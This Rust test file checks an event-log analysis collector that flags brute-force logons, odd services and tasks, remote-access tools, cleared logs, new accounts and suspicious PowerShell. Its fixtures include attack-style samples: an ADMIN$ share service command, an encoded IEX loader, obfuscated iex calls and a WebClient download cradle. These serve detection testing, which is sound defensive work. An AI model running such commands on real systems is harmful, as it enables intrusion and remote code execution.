use super::{Collector, Sums, remote};
use sigma::{Slate, Source};

const START: i64 = 1_790_000_000_000;

/// One event: seconds after the start, product, category, fields.
type Row<'a> = (i64, &'a str, &'a str, &'a [(&'a str, &'a str)]);

fn lay(slate: &mut Slate, (at, product, category, fields): &Row<'_>) {
    slate.clear();
    slate.at = START + at * 1_000;
    slate.set_sources(&[Source::new((*product).to_owned(), (*category).to_owned(), "")]);
    fields.iter().for_each(|(name, value)| slate.put_named(name, value));
}

fn summed(rows: &[Row<'_>]) -> Sums {
    let (mut slate, mut collector) = (Slate::default(), Collector::new());
    for row in rows {
        lay(&mut slate, row);
        collector.see(&slate);
    }
    collector.finish()
}

fn logon(at: i64, id: &'static str, user: &'static str, from: &'static str) -> [(&'static str, &'static str); 7] {
    let _ = at;
    [
        ("Channel", "Security"),
        ("EventID", id),
        ("Computer", "KAIKEI-PC"),
        ("TargetUserName", user),
        ("TargetDomainName", "KOMA"),
        ("IpAddress", from),
        ("LogonType", "10"),
    ]
}

#[test]
fn a_success_after_failures_from_outside_is_marked() {
    let mut events: Vec<(i64, [(&str, &str); 7])> = (0..6).map(|at| (at, logon(at, "4625", "tanaka", "203.0.113.9"))).collect();
    events.push((9, logon(9, "4624", "tanaka", "203.0.113.9")));
    events.push((10, logon(10, "4624", "sato", "192.168.1.5")));
    events.push((11, logon(11, "4624", "PC1$", "192.168.1.5")));
    events.push((12, logon(12, "4624", "SYSTEM", "-")));
    let rows: Vec<Row<'_>> = events.iter().map(|(at, fields)| (*at, "windows", "", &fields[..])).collect();
    let sums = summed(&rows);
    let told: Vec<String> = sums
        .logons
        .iter()
        .map(|one| {
            format!(
                "{} {} {} {:?} +{} -{} {} {}",
                one.host, one.account, one.address, one.kind, one.succeeded, one.failed, one.outside, one.guessed
            )
        })
        .collect();
    insta::assert_snapshot!(told.join("\n"), @r#"
        KAIKEI-PC KOMA\tanaka 203.0.113.9 Type(10) +1 -6 true true
        KAIKEI-PC KOMA\sato 192.168.1.5 Type(10) +1 -0 false false
        "#);
    assert_eq!(sums.seen.count, 10);
}

#[test]
fn services_tasks_and_tools_are_told_with_what_is_odd() {
    let xml = "<Task><Exec><Command>powershell.exe</Command><Arguments>-enc AAAA &amp; x</Arguments></Exec></Task>";
    let rows: [Row<'_>; 7] = [
        (
            0,
            "windows",
            "",
            &[
                ("Channel", "System"),
                ("EventID", "7045"),
                ("ServiceName", "Spooler2"),
                ("ImagePath", "C:\\Program Files\\x\\x.exe"),
                ("AccountName", "LocalSystem"),
            ],
        ),
        (
            1,
            "windows",
            "",
            &[
                ("Channel", "System"),
                ("EventID", "7045"),
                ("ServiceName", "qXzRtKwB"),
                ("ImagePath", "%COMSPEC% /c echo x > \\\\127.0.0.1\\ADMIN$\\o"),
                ("AccountName", "LocalSystem"),
            ],
        ),
        (
            2,
            "windows",
            "",
            &[
                ("Channel", "Security"),
                ("EventID", "4698"),
                ("TaskName", "\\Update"),
                ("TaskContent", xml),
                ("SubjectUserName", "sato"),
            ],
        ),
        (
            3,
            "windows",
            "process_creation",
            &[
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                ("Image", "C:\\Users\\sato\\Downloads\\AnyDesk (1).exe"),
                ("User", "KOMA\\sato"),
            ],
        ),
        (
            4,
            "windows",
            "process_creation",
            &[("Channel", "Security"), ("EventID", "4688"), ("Image", "C:\\Windows\\notepad.exe")],
        ),
        (5, "windows", "", &[("Channel", "System"), ("EventID", "104"), ("SubjectUserName", "sato"), ("Channel", "Application")]),
        (6, "linux", "account_change", &[("EventType", "account-created"), ("Account", "backdoor"), ("Hostname", "srv")]),
    ];
    let sums = summed(&rows);
    let services: Vec<_> = sums.services.iter().map(|(one, count)| (&one.name, &one.odd, count.count)).collect();
    insta::assert_debug_snapshot!(services, @r#"
        [
            (
                "qXzRtKwB",
                [
                    Shell,
                    Share,
                    Name,
                ],
                1,
            ),
            (
                "Spooler2",
                [],
                1,
            ),
        ]
        "#);
    let (task, _) = &sums.tasks[0];
    assert_eq!((task.command.as_str(), task.odd.len()), ("powershell.exe -enc AAAA & x", 2));
    let tools: Vec<_> = sums.remotes.iter().map(|(one, _)| (one.tool.as_str(), one.account.as_str())).collect();
    assert_eq!(tools, [("AnyDesk", "KOMA\\sato")]);
    let changes: Vec<_> = sums.changes.iter().map(|(one, _)| (one.what.word(), one.object.as_str(), one.host.as_str())).collect();
    assert_eq!(changes, [("log-cleared", "Application", ""), ("account-made", "backdoor", "srv")]);
}

#[test]
fn script_blocks_are_flagged_and_short_plain_ones_only_counted() {
    let encoded =
        format!("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))", "QWxsIHlvdXIgYmFzZQ".repeat(30));
    let hidden = "&(\"{1}{0}\" -f'x','y');".replace('x', "`i`e").repeat(40);
    let rows = ["prompt", encoded.as_str(), hidden.as_str(), "(New-Object Net.WebClient).DownloadString('http://x')"];
    let fields: Vec<[(&str, &str); 3]> = rows
        .iter()
        .map(|text| [("Channel", "Microsoft-Windows-PowerShell/Operational"), ("EventID", "4104"), ("ScriptBlockText", *text)])
        .collect();
    let rows: Vec<Row<'_>> = fields.iter().map(|fields| (0, "windows", "ps_script", &fields[..])).collect();
    let sums = summed(&rows);
    let flags: Vec<_> = sums.scripts.iter().map(|one| &one.flags).collect();
    insta::assert_debug_snapshot!(flags, @r#"
        [
            [
                Obfuscated,
            ],
            [
                Encoded,
            ],
            [
                Download,
            ],
        ]
        "#);
    assert_eq!((sums.blocks, sums.scripts.len()), (4, 3));
}

#[test]
fn two_threads_give_what_one_gives_and_memory_is_bounded() {
    let names: Vec<String> = (0..super::ENTRIES + 500).map(|number| format!("svc{number}")).collect();
    let (mut one, mut two, mut whole) = (Collector::new(), Collector::new(), Collector::new());
    let mut slates = [Slate::default(), Slate::default(), Slate::default()];
    for (number, name) in names.iter().enumerate() {
        let fields = [("Channel", "System"), ("EventID", "7045"), ("ServiceName", name.as_str()), ("ImagePath", "C:\\x.exe")];
        let row: Row<'_> = (number as i64, "windows", "", &fields);
        let half = number % 2;
        slates.iter_mut().for_each(|slate| lay(slate, &row));
        if half == 0 {
            one.see(&slates[0])
        } else {
            two.see(&slates[1])
        }
        whole.see(&slates[2]);
    }
    one.merge(two);
    let (both, whole) = (one.finish(), whole.finish());
    assert_eq!((both.services.len(), whole.services.len()), (super::ENTRIES, super::ENTRIES));
    assert_eq!((both.unlisted, whole.unlisted), (500, 500));
    assert_eq!(both.seen, whole.seen);
}

#[test]
fn the_list_of_tools_can_be_read() {
    let tools = remote::Tools::default();
    let of = |image: &str| tools.of(image);
    assert_eq!(of("C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"), Some("TeamViewer"));
    assert_eq!(of("/usr/bin/rustdesk"), Some("RustDesk"));
    assert_eq!(
        (of("C:\\x\\client33.exe"), of("C:\\client32.EXE"), of("遠隔.exe"), of("")),
        (None, Some("NetSupport Manager"), None, None)
    );
}
